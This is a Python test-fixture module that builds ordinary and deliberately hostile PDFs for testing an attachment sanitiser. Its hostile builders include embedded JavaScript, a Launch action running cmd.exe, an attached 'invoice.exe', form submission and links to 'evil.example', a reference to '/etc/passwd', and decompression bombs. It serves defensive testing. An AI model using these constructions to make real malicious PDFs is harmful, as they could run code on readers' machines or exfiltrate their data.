"""Makes PDFs, ordinary and hostile. HARM marks what must not come through."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.unit.server.attachments.pictures import HARM, exif, jpeg, zeros

Change = Callable[[Pdf], None]
SCRIPT = "app.alert('" + HARM.decode() + "')"
SHOWN = b"0.5 g 10 10 50 50 re f"


def pdf(*changes: Change, pages: int = 1, **options: object) -> bytes:
    """A document with a grey square on each page, after the changes."""
    with Pdf.new() as document:
        for _ in range(pages):
            page = document.add_blank_page()
            page.Contents = document.make_stream(SHOWN)
        for change in changes:
            change(document)
        out = io.BytesIO()
        document.save(out, **options)  # type: ignore[arg-type]  # the caller's options are those of save
        return out.getvalue()


def opened(data: bytes) -> Pdf:
    return Pdf.open(io.BytesIO(data), attempt_recovery=False)


def laid_bare(data: bytes) -> bytes:
    """The whole document with every stream unpacked that can be."""
    out = io.BytesIO()
    with opened(data) as document:
        document.save(
            out,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A document written by hand, with a right table of objects; the first one is the root."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


ROOT = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


def encrypted(*, user: str = "", owner: str = "owner") -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


# --- changes that make a document hostile ---


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def script_on_opening(document: Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(script())


def named_script(document: Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def script_on_leaving(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=script())
    document.pages[0].obj.AA = Dictionary(O=script(), C=script())


def script_among_resources(document: Pdf) -> None:
    document.pages[0].obj.Resources = Dictionary(
        Properties=Dictionary(P=Dictionary(A=script(), Deep=Array([Array([script()])]))), JavaScript=String(SCRIPT)
    )


def launch(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(P=String(HARM.decode())))


def attached(document: Pdf, content: bytes, name: str) -> pikepdf.AttachedFileSpec:
    return pikepdf.AttachedFileSpec(
        document, content, filename=name, description="", mime_type="", creation_date="", mod_date=""
    )


def embedded_program(document: Pdf) -> None:
    document.attachments["invoice.exe"] = attached(document, b"MZ" + HARM, "invoice.exe")


def associated_file(document: Pdf) -> None:
    spec = attached(document, HARM, "a.html")
    document.pages[0].obj.AF = Array([spec.obj])
    document.pages[0].obj.Resources = Dictionary(Properties=Dictionary(P=Dictionary(AF=Array([spec.obj]))))


def annotation(**entries: object) -> Change:
    """An annotation on the first page. With AP it is seen."""

    def change(document: Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 90]), F=4)
        for key, value in entries.items():
            made[f"/{key}"] = value
        document.pages[0].obj.Annots = Array([document.make_indirect(made)])

    return change


def link(document: Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("http://evil.example/" + HARM.decode()))
    annotation(Subtype=Name.Link, A=action, AA=Dictionary(E=script()))(document)


def rich_media(document: Pdf) -> None:
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), document.make_stream(b"FWS" + HARM)])))
    annotation(Subtype=Name.RichMedia, RichMediaContent=content)(document)


def sound(document: Pdf) -> None:
    annotation(Subtype=Name.Sound, Sound=document.make_stream(HARM))(document)


def field(*, drawn: bool, value: str = "أحمد") -> Change:
    """A filled-in text field that hands its entry to a server and runs a script on every key."""

    def change(document: Pdf) -> None:
        looks = document.make_stream(b"0 0 1 rg 0 0 80 80 re f", BBox=Array([0, 0, 80, 80]), Subtype=Name.Form)
        widget = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String(value),
            Rect=Array([10, 10, 90, 90]),
            F=4,
            A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/" + HARM.decode())),
            AA=Dictionary(K=script()),
        )
        if drawn:
            widget.AP = Dictionary(N=looks)
        made = document.make_indirect(widget)
        document.pages[0].obj.Annots = Array([made])
        document.Root.AcroForm = Dictionary(Fields=Array([made]), NeedAppearances=True)

    return change


def xfa(*, dynamic: bool) -> Change:
    def change(document: Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp>" + HARM + b"</xdp>"))
        if dynamic:
            document.Root.NeedsRendering = True

    return change


def told_about(document: Pdf) -> None:
    document.docinfo["/Author"] = String(HARM.decode())
    document.Root.Metadata = document.make_stream(b"<x>" + HARM + b"</x>", Type=Name.Metadata, Subtype=Name.XML)
    document.Root.PieceInfo = Dictionary(App=Dictionary(Private=String(HARM.decode())))
    document.pages[0].obj.Metadata = document.make_stream(HARM)
    document.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=String(HARM.decode())))


def outlines(document: Pdf) -> None:
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem(HARM.decode(), action=script()))


def photo(width: int = 64, height: int = 48, content: bytes | None = None) -> Change:
    """A photo on the first page, as a telephone's scanner puts it there: with EXIF."""

    def change(document: Pdf) -> None:
        made = document.make_stream(
            jpeg(exif=exif()) if content is None else content,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=height,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.DCTDecode,
            Metadata=document.make_stream(HARM),
            OPI=Dictionary(F=String(HARM.decode())),
        )
        document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=made))
        document.pages[0].Contents = document.make_stream(b"q 90 0 0 90 0 0 cm /F Do Q")

    return change


def content_elsewhere(document: Pdf) -> None:
    made = document.make_stream(SHOWN, F=Dictionary(Type=Name.Filespec, F=String("/etc/passwd" + HARM.decode())))
    document.pages[0].Contents = made


def packed(content: bytes, *filters: Name) -> Change:
    """The first page's content as it is given, packed by these filters."""

    def change(document: Pdf) -> None:
        document.pages[0].Contents = Stream(document, content, Filter=Array(filters))

    return change


def flate_bomb() -> Change:
    return packed(zeros(20), Name.FlateDecode)


def double_flate_bomb() -> Change:
    return packed(zlib.compress(zeros(200), 9), Name.FlateDecode, Name.FlateDecode)


def many_small_bombs(document: Pdf) -> None:
    """Each within the bound, together beyond it."""
    bomb = zeros(4)
    document.pages[0].Contents = Array(
        [document.make_indirect(Stream(document, bomb, Filter=Name.FlateDecode)) for _ in range(6)]
    )


def run_length_bomb() -> Change:
    return packed(b"\x81\x00" * 200_000, Name.RunLengthDecode)


def many_objects(document: Pdf) -> None:
    """Eleven thousand small objects, packed to a few bytes each."""
    document.pages[0].obj.Resources = Dictionary(
        Properties=Dictionary(P=Array([document.make_indirect(Dictionary(A=1)) for _ in range(11_000)]))
    )


def hidden_layer(document: Pdf) -> None:
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("draft")))
    document.Root.OCProperties = Dictionary(
        OCGs=Array([layer]), D=Dictionary(OFF=Array([layer]), Order=Array([layer]), AS=Array([]))
    )
    document.pages[0].obj.Resources = Dictionary(Properties=Dictionary(L=layer))


def claimed_size(size: object) -> Change:
    def change(document: Pdf) -> None:
        document.pages[0].obj.MediaBox = Array(size)  # type: ignore[arg-type]  # hostile on purpose

    return change
